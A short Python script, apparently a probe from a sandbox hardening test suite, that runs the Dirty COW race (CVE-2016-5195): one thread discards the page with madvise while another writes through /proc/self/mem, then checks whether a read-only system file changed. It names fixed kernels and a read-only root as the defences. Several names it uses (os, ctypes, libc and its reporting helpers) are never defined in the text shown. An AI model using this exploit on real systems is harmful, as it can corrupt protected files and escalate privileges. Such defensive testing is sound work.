"""D18b: Dirty COW (CVE-2016-5195): MADV_DONTNEED against writes through /proc/self/mem.

by: fixed kernels, a read-only root
"""
import mmap
import threading
import time

path = "/usr/lib/python3.11/os.py"
before = open(path, "rb").read(4096)
source = os.open(path, os.O_RDONLY)
page = mmap.mmap(source, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
place = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if "/os.py" in line)
tried("madvise against writes")
until = time.monotonic() + 0.3


def forget():
    while time.monotonic() < until:
        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(4096), 4)


def write():
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        while time.monotonic() < until:
            os.pwrite(memory, b"overwritten", place)
    except OSError as error:
        stopped(error)


threads = [threading.Thread(target=act) for act in (forget, write)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
if open(path, "rb").read(4096) != before:
    got("a read-only file")
